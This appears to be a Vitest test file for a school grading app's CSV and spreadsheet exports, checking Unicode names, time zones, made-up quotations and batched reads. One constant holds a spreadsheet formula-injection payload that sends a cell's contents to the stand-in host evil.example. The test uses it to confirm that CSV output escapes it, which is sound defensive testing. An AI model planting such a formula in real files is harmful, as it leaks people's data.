import { uuidv7 } from "uuidv7";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { openTable } from "@/lib/exports/tables/open-table";
import { getResponsesExport } from "@/lib/grading/exports";
import { markResponse } from "@/lib/grading/mark-response";
import { getReviewedAnswer } from "@/lib/grading/reviewed-answer";
import { database } from "../../support/database";
import { csvOfTable, xlsxOfTable } from "../../support/files";
import { makeClass } from "./class";

const HOSTILE = '=HYPERLINK("http://evil.example?"&A1)';
const ESSAY = 'He said "no".\nThen:\t@SUM(1), =1+1; 他不给面子 🕊️';

let lesson: Awaited<ReturnType<typeof makeClass>>;
beforeEach(async () => {
  lesson = await makeClass({ dueAt: new Date(Date.now() - 3_600_000) });
});
const table = (kind: "RESULTS" | "RESPONSES", zone = "Asia/Almaty") =>
  openTable(lesson.teacher, { kind, ofId: lesson.assignmentId }, zone);
const students = async () => csvOfTable(await table("RESULTS"));
const responses = async () => csvOfTable(await table("RESPONSES"));

describe("a row per student", () => {
  it("has points as numbers, blanks where nothing is known, and everybody", async () => {
    await lesson.finish(await lesson.join("Әсем Қанатқызы"), { choice: "b" });
    await lesson.finish(await lesson.join("张伟 🐼"), { choice: "a", essay: ESSAY });
    await lesson.join(HOSTILE);
    const rows = await students();
    expect(rows.map((row) => Object.values(row).toSpliced(3, 1))).toEqual(
      expect.arrayContaining([
        ["Әсем Қанатқызы", "handed in late", "1", "yes", "", "2", "0", "0", "2", "8", "25", "0", "", ""],
        ["张伟 🐼", "handed in late", "1", "yes", "", "0", "0", "", "0", "8", "", "1", "", ""],
        [`'${HOSTILE}`, "not started", "", "", "", "", "", "", "", "", "", "", "", ""],
      ]),
    );
    expect(rows).toHaveLength(3);
    expect(rows[0]?.["Handed in"]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$|^$/);
  });
});

describe("a row per response", () => {
  it("has no quotation that a browser made up, and says that there was one", async () => {
    const student = await lesson.join();
    const attemptId = await lesson.finish(student, { essay: ESSAY });
    const made = { blockId: "b2", start: 0, end: 11, quote: "He meant no" };
    const where = { attemptId, itemVersionId: lesson.items.essay };
    const { id, answer } = await database.response.findFirstOrThrow({ where });
    const passages = [...(answer as { passages: object[] }).passages, made];
    await database.response.update({ where: { id }, data: { answer: { ...(answer as object), passages } } });
    const essay = (await responses()).find((row) => row["Cited passages"]);
    expect(essay?.["Cited passages"]).toBe("“It was also a refusal.”\n(one quotation is not in the text)");
    const place = { ...where, assignmentId: lesson.assignmentId };
    const { current } = await getReviewedAnswer(lesson.teacher, place);
    expect(current).toMatchObject({ lost: 1, answer: { passages: [{ quote: "It was also a refusal." }] } });
  });

  it("has the answer in words, its quotations, and who marked it", async () => {
    const attemptId = await lesson.finish(await lesson.join(), { choice: "b", essay: ESSAY });
    await markResponse(lesson.assistant, {
      ...{ attemptId, itemVersionId: lesson.items.essay, levels: { claim: 1 }, baseScoreId: null },
      comment: "+1",
    });
    const [choice, essay] = await responses();
    expect(choice).toMatchObject({
      Question: "1",
      Answer: "A no",
      Points: "2",
      "Marked by": "automatically",
    });
    expect(essay).toMatchObject({
      Answer: ESSAY,
      "Cited passages": "“It was also a refusal.”",
      Points: "4",
      Maximum: "4",
      "Marked by": "by a person",
      Marker: lesson.assistant.name,
      Comment: "'+1",
      Late: "yes",
    });
  });

  it("has what was saved of an attempt in progress, without points", async () => {
    await lesson.begin(await lesson.join(), { choice: "b" });
    expect(await responses()).toMatchObject([{ Answer: "A no", Points: "", "Handed in": "", Late: "" }]);
  });
});

describe("the same as a workbook", () => {
  it("has numbers as numbers, times on the clock of the teacher, and every name as it is typed", async () => {
    await lesson.finish(await lesson.join("Әсем Қанатқызы"), { choice: "b" });
    await lesson.finish(await lesson.join("张伟 🐼"), { choice: "a", essay: ESSAY });
    await lesson.join(HOSTILE);
    const rows = await xlsxOfTable(await table("RESULTS"));
    expect(rows.map((row) => [row.Student, row.Total, row.Percent, row["Answers to mark"]])).toEqual(
      expect.arrayContaining([
        ["Әсем Қанатқызы", 2, 25, 0],
        ["张伟 🐼", 0, null, 1],
        [HOSTILE, null, null, null],
      ]),
    );
    const { handedInAt } = await database.attempt.findFirstOrThrow({
      where: { assignmentId: lesson.assignmentId, user: { name: "张伟 🐼" } },
    });
    const there = rows.find((row) => row.Student === "张伟 🐼")?.["Handed in (Asia/Almaty)"] as Date;
    // Five hours before Greenwich; a workbook knows half a second at best.
    expect(Math.abs(there.getTime() - (handedInAt?.getTime() ?? 0) - 5 * 3_600_000)).toBeLessThan(1500);
  });

  it("has what students wrote letter by letter", async () => {
    await lesson.finish(await lesson.join(), { choice: "b", essay: ESSAY });
    const [, essay] = await xlsxOfTable(await table("RESPONSES"));
    expect(essay).toMatchObject({
      Answer: ESSAY,
      "Cited passages": "“It was also a refusal.”",
      Points: null,
    });
  });
});

/** So many students with two answers each, written straight into the database. */
async function manyAnswers(count: number): Promise<void> {
  const { courseId, assignmentId, items } = lesson;
  const students = Array.from({ length: count }, (_, at) => ({ id: uuidv7(), name: `Student ${at + 1}` }));
  const attempts = students.map(({ id: userId }) => ({ id: uuidv7(), userId }));
  await database.user.createMany({
    data: students.map((student) => ({ ...student, kind: "STUDENT", secretHash: "" })),
  });
  await database.enrollment.createMany({
    data: students.map(({ id, name }) => ({ courseId, userId: id, role: "STUDENT", name, nameKey: name })),
  });
  await database.attempt.createMany({
    data: attempts.map((attempt) => ({ ...attempt, courseId, assignmentId, number: 1 })),
  });
  const answers = [
    { itemVersionId: items.choice, answer: { option: "b" } },
    { itemVersionId: items.passage, answer: { passages: [] } },
  ];
  await database.response.createMany({
    data: attempts.flatMap(({ id: attemptId }) =>
      answers.map((answer) => ({ ...answer, courseId, attemptId, revision: 1, saveId: uuidv7() })),
    ),
  });
}

describe("a class that is too large to be held in memory", () => {
  it("is read a few attempts at a time, and written in the order of the names", async () => {
    await manyAnswers(60);
    const { total, batches } = await getResponsesExport(lesson.teacher, lesson.assignmentId);
    expect(total).toBe(120);
    const sizes: number[] = [];
    const names: string[] = [];
    const read = vi.spyOn(database.response, "findMany");
    for await (const rows of batches) {
      sizes.push(rows.length);
      names.push(...rows.map(({ name }) => name));
      // Not a batch before it is asked for.
      expect(read).toHaveBeenCalledTimes(sizes.length);
    }
    read.mockRestore();
    expect(sizes).toEqual([50, 50, 20]);
    expect([...new Set(names)]).toEqual(Array.from({ length: 60 }, (_, at) => `Student ${at + 1}`));
  });
});
